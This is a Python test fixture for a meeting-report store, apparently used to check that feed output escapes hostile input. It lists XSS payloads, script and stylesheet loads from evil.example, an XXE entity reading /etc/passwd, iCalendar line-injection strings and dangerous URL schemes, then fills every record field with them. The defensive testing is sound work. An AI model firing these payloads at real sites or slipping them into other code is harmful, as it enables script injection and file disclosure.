"""What may stand in a title, a name, an address or a text, and what none of it may do in a feed."""

from store.records.issues import Telling
from store.records.meetings import Evidence, Meeting, MeetingReport, Participant, Place, ReportReference

# Each runs a script, fetches something, or breaks out of where it stands, if it is taken for markup.
VECTORS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT >",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>minutes</a>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)' x='",
    "]]><script>alert(1)</script><![CDATA[",
    "--><script>alert(1)</script><!--",
    "</title></channel></rss><script>alert(1)</script>",
    "</textarea></style></noscript><body onload=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
    "<<script>script>alert(1)<</script>/script>",
    "<math><mi xlink:href='data:text/html,<script>alert(1)</script>'>x</mi></math>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example/><input name=q autofocus onfocus=alert(1)>",
    "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;",
    "<?xml-stylesheet href='//evil.example/x.xsl'?>",
    "\u202e<script>\u202c\x00\x1balert(1)\x0b\ufffe\ud800",
    "a\r\nATTENDEE:mailto:x@evil.example\r\nEND:VEVENT\r\nBEGIN:VALARM",
    "a\nBEGIN:VEVENT\nURL:javascript:alert(1)\n",
    'a";ALTREP="http://evil.example/":b\\nEND:VCALENDAR\\\\;,',
    "{{ 7*7 }}{% raw %}${7*7} %s {0.__class__}",
    "＜script＞alert(1)＜/script＞",
)

ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\nscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "ftp://a.example/x",
    "//evil.example/x",
    "http:alert(1)",
    "http:///x",
    'https://a.example/"><script>alert(1)</script>',
    "https://a.example/]]>\r\nEND:VEVENT",
    "https://a.example/новости?q=<b>&x='y'",
    "https://[::1",
    "\x00https://a.example/\x1b\u202e",
    "",
)


def telling_with(text: str, address: str, *, number: int = 0, stock: Telling) -> Telling:
    """Return what is told of a meeting with no word but `text`, and its only report at `address`."""
    report = ReportReference(
        article=1,
        url=address,
        outlet=text,
        language=text,
        title=text,
        published_at=stock.told_at,
        published_by=text,
    )
    told = MeetingReport(
        date=stock.meeting.told.date,
        title=text,
        occasion=text,
        about=text,
        outcome=text,
        place=Place(venue=text, city=text, country=text),
        participants=(Participant(name=text, post=text, organisation=text), Participant(post=text)),
        evidence=(Evidence(field="title", sentence=text, start=0, end=len(text)),),
    )
    meeting = Meeting(
        id=f"m{number}", told=told, reports=(report,), first_reported_at=stock.meeting.first_reported_at
    )
    return Telling(meeting=meeting, told_at=stock.told_at)
